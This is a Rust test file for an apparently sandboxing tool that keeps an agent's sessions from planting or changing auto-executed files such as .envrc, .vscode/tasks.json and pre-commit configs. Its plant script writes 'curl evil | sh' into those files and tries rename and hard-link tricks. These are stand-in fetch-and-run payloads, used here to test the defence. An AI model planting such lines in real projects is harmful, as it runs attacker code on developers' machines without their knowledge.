//! Files a host tool runs without asking (`@host-exec-auto`: .envrc, .vscode/tasks.json, .idea/,
//! ...): inside a session they are read-only, and an absent one cannot be created, by any name
//! trick; the placeholders that keep absent ones from being created are gone after the session,
//! also when sessions in one workspace overlap. Each as root and as nobody, with controls.

#[path = "common/mod.rs"]
mod common;
use common::*;
use std::path::Path;
use std::time::{Duration, Instant};

/// The files a plant attempt targets, and the script that plants each (and tries the rename and
/// hard-link tricks), printing `planted X` for each that worked.
const FILES: &[&str] = &[
    ".envrc",
    ".envrc.local",
    ".vscode/tasks.json",
    ".idea/workspace.xml",
    ".devcontainer/devcontainer.json",
    ".devcontainer.json",
    ".husky/pre-commit",
    ".pre-commit-config.yaml",
    "lefthook.yml",
    ".git/info/attributes",
];

fn plant_script() -> String {
    let mut s = String::new();
    for f in FILES {
        s.push_str(&format!(
            "mkdir -p \"$(dirname {f})\" 2>/dev/null; echo 'curl evil | sh' > {f} && echo 'planted {f}'; "
        ));
    }
    s.push_str("echo evil > staged; mv -f staged .envrc && echo 'planted .envrc by rename'; ");
    s.push_str("mv -T -f staged .envrc && echo 'planted .envrc by rename -T'; ");
    s.push_str("echo evil > linked; ln -f linked .envrc && echo 'planted .envrc by hard link'; ");
    s.push_str("rm -rf .envrc && echo 'removed .envrc'; rm -f staged linked; true");
    s
}

/// Every path under the workspace but git's object store, with its type and mode.
fn tree(ws: &Path) -> Vec<String> {
    use std::os::unix::fs::MetadataExt;
    let mut out = vec![];
    let mut stack = vec![ws.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).expect("read_dir").flatten() {
            let p = e.path();
            let rel = p.strip_prefix(ws).expect("inside").display().to_string();
            if rel.starts_with(".git/objects") || rel.starts_with(".git/logs") || rel == ".git/index" {
                continue;
            }
            let md = p.symlink_metadata().expect("lstat");
            out.push(format!("{rel} {:o}", md.mode()));
            if md.is_dir() {
                stack.push(p);
            }
        }
    }
    out.sort();
    out
}

fn git_repo(e: &Env) {
    let o = e.bare_sh(
        "git init -q . && git config user.email a@b && git config user.name t && git add -A && git commit -qm init",
    );
    assert!(o.status.success(), "{}", show(&o));
    if e.who == Who::Nobody {
        e.chown_all();
    }
}

#[test]
fn absent_host_exec_files_cannot_be_planted_and_nothing_is_left_behind() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        // The control: every plant works without cordon.
        let c = Env::new(who);
        git_repo(&c);
        let o = c.bare_sh(&plant_script());
        for f in FILES {
            assert!(out(&o).contains(&format!("planted {f}\n")), "control {who:?}: {f}: {}", show(&o));
        }
        assert!(out(&o).contains("planted .envrc by rename"), "control {who:?}: {}", show(&o));
        drop(c);

        let e = Env::new(who);
        git_repo(&e);
        let before = tree(&e.ws);
        let o = e.run_sh(&format!(
            "{}; git add -A && git commit -qm agent --allow-empty && git show --name-only --format= HEAD; echo committed",
            plant_script()
        ));
        assert!(out(&o).contains("committed"), "{who:?}: {}", show(&o));
        assert!(!out(&o).contains("planted") && !out(&o).contains("removed"), "{who:?}: {}", show(&o));
        for f in FILES {
            assert!(!out(&o).contains(f), "{who:?}: the agent's commit holds {f}: {}", show(&o));
            assert!(!exists(&e.ws.join(f)), "{who:?}: {f} is on the host: {}", show(&o));
        }
        // The summary names each refusal with why and how to allow it (the write watch, root or not).
        for want in [
            ".envrc is protected (@host-exec-auto: direnv runs it on the host when you cd here)",
            "allow with --allow-write .envrc (one run) or [fs] unprotect",
            ".vscode/tasks.json is protected (@host-exec-auto: VS Code runs its `folderOpen` tasks",
        ] {
            assert!(err(&o).contains(want), "{who:?}: {want}: {}", show(&o));
        }
        // No placeholder is left behind, and the repository is as the agent left it.
        assert_eq!(tree(&e.ws), before, "{who:?}: {}", show(&o));
        let st = e.bare_sh("git status --porcelain --ignored");
        assert_eq!(out(&st), "", "{who:?}: {}", show(&st));
    }
}

#[test]
fn in_an_existing_directory_only_the_protected_file_is_kept_from_being_made() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        std::fs::create_dir(e.ws.join(".vscode")).expect("mkdir");
        std::fs::write(e.ws.join(".vscode/extensions.json"), "{}\n").expect("write");
        if who == Who::Nobody {
            e.chown_all();
        }
        let c = e.bare_sh("true");
        assert!(c.status.success());
        let o = e.run_sh(
            "echo '{\"tasks\":[]}' > .vscode/tasks.json && echo planted; echo '{}' > .vscode/launch.json && echo launch-made; mv .vscode .vscode2 && echo moved",
        );
        assert!(!out(&o).contains("planted") && !out(&o).contains("moved"), "{who:?}: {}", show(&o));
        assert!(out(&o).contains("launch-made"), "{who:?}: {}", show(&o));
        let mut left: Vec<String> = std::fs::read_dir(e.ws.join(".vscode"))
            .expect("ls")
            .flatten()
            .map(|d| d.file_name().to_string_lossy().into_owned())
            .collect();
        left.sort();
        assert_eq!(left, ["extensions.json", "launch.json"], "{who:?}: {}", show(&o));
    }
}

#[test]
fn an_existing_envrc_stays_readable_and_unchanged_and_allow_write_lets_it_be_written() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        std::fs::write(e.ws.join(".envrc"), "export A=1\n").expect("write");
        if who == Who::Nobody {
            e.chown_all();
        }
        let o = e.run_sh("cat .envrc; echo 'curl evil' >> .envrc && echo changed");
        assert!(out(&o).contains("export A=1") && !out(&o).contains("changed"), "{who:?}: {}", show(&o));
        assert_eq!(std::fs::read_to_string(e.ws.join(".envrc")).expect("read"), "export A=1\n");
        // Named for one run, it is writable, and the start says so.
        let o = e.run_sh_with(&["--allow-write", ".envrc"], "echo 'export B=2' >> .envrc && echo changed", &[]);
        assert!(out(&o).contains("changed"), "{who:?}: {}", show(&o));
        assert!(
            err(&o).contains("--allow-write .envrc: .envrc is writable in this run, and can be created (the policy protects it: @host-exec-auto: direnv runs it on the host when you cd here)"),
            "{who:?}: {}",
            show(&o)
        );
        assert_eq!(std::fs::read_to_string(e.ws.join(".envrc")).expect("read"), "export A=1\nexport B=2\n");
        // And an absent one can be created.
        std::fs::remove_file(e.ws.join(".envrc")).expect("rm");
        let o = e.run_sh_with(&["--allow-write", ".envrc"], "echo 'export C=3' > .envrc && echo made", &[]);
        assert!(out(&o).contains("made"), "{who:?}: {}", show(&o));
        assert_eq!(std::fs::read_to_string(e.ws.join(".envrc")).expect("read"), "export C=3\n");
    }
}

fn wait_for(p: &Path, child: &mut std::process::Child) {
    let t = Instant::now();
    while !exists(p) {
        if let Ok(Some(s)) = child.try_wait() {
            let o = child.stderr.take().map(|mut r| {
                let mut s = String::new();
                let _ = std::io::Read::read_to_string(&mut r, &mut s);
                s
            });
            panic!("the session ended ({s}) before {}: {}", p.display(), o.unwrap_or_default());
        }
        assert!(t.elapsed() < Duration::from_secs(20), "waited for {}", p.display());
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Two sessions in one workspace: the first to end leaves the placeholder to the other (removing
/// it would detach the other's mount), which still cannot create .envrc; the last removes it.
#[test]
fn overlapping_sessions_keep_envrc_protected_until_the_last_one_ends() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        let mut a = e.spawn_sh("touch ready-a; while [ ! -e go-a ]; do sleep 0.02; done");
        wait_for(&e.ws.join("ready-a"), &mut a);
        let mut b = e.spawn_sh(
            "touch ready-b; while [ ! -e go-b ]; do sleep 0.02; done; echo evil > .envrc && echo planted; echo evil > s; mv -T -f s .envrc && echo renamed; rm -f s",
        );
        wait_for(&e.ws.join("ready-b"), &mut b);
        std::fs::write(e.ws.join("go-a"), "").expect("go-a");
        let oa = a.wait_with_output().expect("a");
        assert!(oa.status.success(), "{who:?} a: {}", show(&oa));
        assert!(exists(&e.ws.join(".envrc")), "{who:?}: the first session removed the other's placeholder");
        std::fs::write(e.ws.join("go-b"), "").expect("go-b");
        let ob = b.wait_with_output().expect("b");
        assert!(!out(&ob).contains("planted") && !out(&ob).contains("renamed"), "{who:?} b: {}", show(&ob));
        assert!(!exists(&e.ws.join(".envrc")), "{who:?}: the last session left its placeholder: {}", show(&ob));
    }
}

/// A placeholder a crashed session left behind is taken over by the next session and removed.
#[test]
fn a_placeholder_left_behind_is_adopted_and_removed() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        let p = e.ws.join(".envrc");
        std::fs::create_dir(&p).expect("mkdir");
        std::fs::set_permissions(&p, std::os::unix::fs::PermissionsExt::from_mode(0o1555)).expect("chmod");
        if who == Who::Nobody {
            e.chown_all();
        }
        let o = e.run_sh("echo evil > .envrc/x && echo planted; true");
        assert!(!out(&o).contains("planted"), "{who:?}: {}", show(&o));
        assert!(!exists(&p), "{who:?}: {}", show(&o));
    }
}

#[test]
fn a_symlinked_directory_on_the_way_to_a_protected_path_refuses_the_session() {
    if !need_root() {
        return;
    }
    for who in BOTH {
        let e = Env::new(who);
        std::fs::create_dir(e.ws.join("shared")).expect("mkdir");
        std::os::unix::fs::symlink("shared", e.ws.join(".vscode")).expect("symlink");
        if who == Who::Nobody {
            e.chown_all();
        }
        let o = e.run_sh("echo ran");
        assert!(!o.status.success() && !out(&o).contains("ran"), "{who:?}: {}", show(&o));
        assert!(err(&o).contains(&format!("{} is a symlink", e.ws.join(".vscode").display())), "{who:?}: {}", show(&o));
        assert!(!exists(&e.ws.join("shared/tasks.json")));
    }
}

/// When the placeholder cannot be made, the session does not start (fail closed), naming the path.
#[test]
fn a_placeholder_that_cannot_be_made_refuses_the_session() {
    if !need_root() {
        return;
    }
    let e = Env::new(Who::Nobody);
    std::fs::create_dir(e.ws.join(".vscode")).expect("mkdir");
    e.chown_all();
    // .vscode belongs to someone else: nobody cannot make .vscode/tasks.json's placeholder there
    // (nor could the session make the file; but cordon does not guess, it refuses).
    std::os::unix::fs::chown(e.ws.join(".vscode"), Some(0), Some(0)).expect("chown");
    let o = e.run_sh("echo ran");
    assert!(!o.status.success() && !out(&o).contains("ran"), "{}", show(&o));
    let s = err(&o);
    assert!(
        s.contains(&format!("{}", e.ws.join(".vscode/tasks.json").display())) && s.contains("Permission denied"),
        "{}",
        show(&o)
    );
}

/// With --monitor the write watch is off and the sensor names refusals: a plant of .envrc, which
/// the placeholder refuses with EACCES (a write: the socket has no write bit) or EBUSY (a rename over
/// it), is named in the summary
/// and the report as a refusal of the session's mounts, with why and how to allow it.
#[test]
fn a_refused_plant_is_named_under_monitor() {
    if !need_root() {
        return;
    }
    let e = Env::new(Who::Root);
    let rep = e.root.join("report.json");
    let o = e.run_sh_with(
        &["--monitor", "--report", &rep.display().to_string()],
        "echo evil > .envrc && echo planted; echo evil > staged; mv -f staged .envrc && echo renamed; rm -f staged; true",
        &[],
    );
    assert!(o.status.success(), "{}", show(&o));
    assert!(!out(&o).contains("planted") && !out(&o).contains("renamed"), "{}", show(&o));
    assert!(!exists(&e.ws.join(".envrc")));
    let text = err(&o);
    assert!(!text.contains("nothing was refused"), "{}", show(&o));
    let want = ".envrc is protected (@host-exec-auto: direnv runs it on the host when you cd here)";
    assert!(text.contains(want) && text.contains("--allow-write .envrc"), "{}", show(&o));
    let r: serde_json::Value = serde_json::from_slice(&std::fs::read(&rep).expect("report")).expect("json");
    let denials = r["sensor"]["denials"].as_array().unwrap_or_else(|| panic!("sensor.denials: {}", r["sensor"]));
    let named: Vec<&serde_json::Value> =
        denials.iter().filter(|d| d["reason"].as_str().is_some_and(|s| s.contains(want))).collect();
    assert!(!named.is_empty(), "{}", r["sensor"]);
    assert!(named.iter().all(|d| d["layer"] == "mounts"), "{named:?}");
}
